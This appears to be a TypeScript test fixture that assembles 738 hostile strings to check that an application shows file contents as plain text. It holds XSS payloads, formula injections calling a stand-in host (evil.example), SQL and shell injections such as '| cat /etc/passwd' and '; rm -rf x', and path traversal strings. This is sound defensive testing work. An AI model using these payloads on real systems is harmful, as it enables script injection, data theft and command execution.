/** How many there are, for whoever counts. */
export const HOSTILE_STRINGS = 738

/** Any of these coming to life sets this global of the page; nothing else does. */
export const TRIPWIRE = 'escaped'
/** Elements made out of a string bear this attribute; the screens' own never do. */
export const MARK = 'data-hostile'

const run = `window.${TRIPWIRE}=1`
/** Nobody answers there, and a request that is only attempted is noticed. */
const away = 'https://evil.example'

/** What asks a page to become more than a text: elements, each with what it would do. */
const ELEMENTS = [
  `<script ${MARK}>${run}</script>`,
  `<script ${MARK} src="${away}/x.js"></script>`,
  `<img ${MARK} src=x onerror="${run}">`,
  `<img ${MARK} src="${away}/pixel.png">`,
  `<svg ${MARK} onload="${run}"><circle r=9></svg>`,
  `<svg ${MARK}><script>${run}</script></svg>`,
  `<svg ${MARK}><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
  `<svg ${MARK}><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<svg ${MARK}><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></foreignObject></svg>`,
  `<iframe ${MARK} src="javascript:parent.${run}"></iframe>`,
  `<iframe ${MARK} srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object ${MARK} data="data:text/html,<script>${run}</script>"></object>`,
  `<embed ${MARK} src="${away}/x.swf">`,
  `<a ${MARK} href="javascript:${run}">click</a>`,
  `<a ${MARK} href="${away}" target=_blank>click</a>`,
  `<form ${MARK} action="${away}"><button>send</button></form>`,
  `<input ${MARK} autofocus onfocus="${run}">`,
  `<button ${MARK} formaction="javascript:${run}">press</button>`,
  `<details ${MARK} open ontoggle="${run}"><summary>x</summary></details>`,
  `<video ${MARK} src=x onerror="${run}"></video>`,
  `<audio ${MARK} src="${away}/x.ogg" autoplay></audio>`,
  `<body ${MARK} onload="${run}">`,
  `<base ${MARK} href="${away}/">`,
  `<link ${MARK} rel=stylesheet href="${away}/x.css">`,
  `<meta ${MARK} http-equiv=refresh content="0;url=${away}">`,
  `<style ${MARK}>*{background:url(${away}/css)}</style>`,
  `<div ${MARK} style="position:fixed;inset:0;background:red">covered</div>`,
  `<marquee ${MARK} onstart="${run}">x</marquee>`,
  `<math ${MARK}><mtext><img src=x onerror="${run}"></mtext></math>`,
  `<template ${MARK}><script>${run}</script></template>`,
  `<table ${MARK}><td background="${away}/td.png">`,
  `<select ${MARK} autofocus onfocus="${run}"></select>`,
  `<textarea ${MARK} autofocus onfocus="${run}">x</textarea>`,
  `<noscript ${MARK}><p title="</noscript><img src=x onerror=${run}>">`,
]

/** How an element is hidden from who looks for it, or set free from where it stands. */
const WRAPPINGS: ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</title></style></textarea></script>${text}`,
  (text) => `--><!-- x -->${text}`,
  (text) => `]]>${text}`,
  (text) => `x\u00a0${text}\u200b`,
  (text) => text.replace('<', '\uff1c').replace('>', '\uff1e'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '\\u003c'),
  (text) => text.replace(/^<(\w+)/, (_, tag: string) => `<${tag.toUpperCase()}/`),
  (text) => encodeURIComponent(text),
  (text) => `{b|${text}}`,
]

/** Addresses and the ways in which texts become links. */
const ADDRESSES = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `\u0001javascript:${run}`,
  `java\tscript:${run}`,
  `javascript&colon;${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5lc2NhcGVkPTE8L3NjcmlwdD4=`,
  `${away}/plain`,
  `//evil.example/relative`,
  `\\\\evil.example\\share`,
  `file:///etc/passwd`,
  `app://truenorth/../../package.json`,
  `blob:${away}/1`,
  `mailto:x@evil.example?attach=/etc/passwd`,
]
const LINKINGS: ((address: string) => string)[] = [
  (address) => address,
  (address) => `[click](${address})`,
  (address) => `![picture](${address})`,
  (address) => `<${address}>`,
  (address) => `[x]: ${address}`,
  (address) => `url("${address}")`,
  (address) => `@import '${address}';`,
  (address) => `image://${address}`,
]

/** What other readers of texts would take for commands of theirs. */
const COMMANDS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'then',
  '__proto__.escaped',
  'constructor.prototype.escaped',
  '__defineGetter__',
  'length',
  'NaN',
  '=1+1',
  '=HYPERLINK("' + away + '","x")',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML("' + away + '","//a")',
  '=WEBSERVICE("' + away + '")',
  "' OR '1'='1",
  "'; DROP TABLE variables; --",
  '" OR ""="',
  '1; ATTACH DATABASE x AS y',
  "'||(SELECT load_extension('x'))||'",
  'UNION SELECT sql FROM sqlite_schema',
  '`x`',
  '[x]',
  '%s%s%s%n',
  '%d',
  '{0}',
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '$(id)',
  '`id`',
  '| cat /etc/passwd',
  '; rm -rf x',
  '&& calc',
  '../../etc/passwd',
  '..\\..\\x',
  '%2e%2e%2f',
  'CON',
  'NUL',
  'aux',
  'a.b',
  'null',
  'undefined',
  'true',
  'Infinity',
  '-0',
  '0x10',
  '1e999',
  'W'.repeat(2000),
  'word '.repeat(400),
  '\n\n\n',
  'a\r\nb',
  ' ',
  '\t',
  '.',
  '..',
  '0',
  '{a}',
  '{b}',
  '{c}',
  '{value|x}',
  '{@a}',
  '{hr|}',
  '\\n',
  '\\',
  '"',
  "'",
  '/',
  '<',
  '>',
  '&',
]

/** Signs that turn, hide or stretch the text around them. */
const SIGNS = [
  '\u202e',
  '\u202d',
  '\u2066',
  '\u2067',
  '\u2069',
  '\u200f',
  '\u200e',
  '\u061c',
  '\u200b',
  '\u200c',
  '\u200d',
  '\u2060',
  '\ufeff',
  '\u00ad',
  '\u034f',
  '\u180e',
  '\u2028',
  '\u2029',
  '\u0085',
  '\u000b',
  '\u000c',
  '\u0007',
  '\u001b[31m',
  '\u0008',
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}',
  '\u{1f3f4}\u{e0067}',
  '\u{1f1e9}',
  '\ufe0f',
  'Z\u0335\u0321\u0322\u0323\u0324\u0325\u0326',
  '\u0e47'.repeat(20),
  '\ufdfd',
  '\u{12031}',
  '\ufffd',
  '\uffff',
  '\u{10ffff}',
  '\ue000',
  '\u3000',
  '\u00a0',
  '\u2003',
  '\u0130',
]
const AROUND: ((sign: string) => string)[] = [
  (sign) => `a${sign}b`,
  (sign) => `${sign}<b ${MARK}>fdp.exe</b>`,
  (sign) => `x${sign.repeat(3)}y`,
]

/**
 * Texts that a client's file may hold and that must stay texts: exactly 738, all different, the same
 * every time. Each kind takes its turn, so that any run of them holds something of all.
 */
export function hostileStrings(): string[] {
  const kinds = [
    ELEMENTS.flatMap((element) => WRAPPINGS.map((wrap) => wrap(element))),
    ADDRESSES.flatMap((address) => LINKINGS.map((link) => link(address))),
    COMMANDS,
    SIGNS.flatMap((sign) => AROUND.map((put) => put(sign))),
  ]
  const longest = Math.max(...kinds.map((kind) => kind.length))
  const strings = new Set<string>()
  for (let at = 0; at < longest; at += 1)
    for (const kind of kinds) {
      const text = kind[at]
      if (text !== undefined) strings.add(text)
    }
  return [...strings].slice(0, HOSTILE_STRINGS)
}
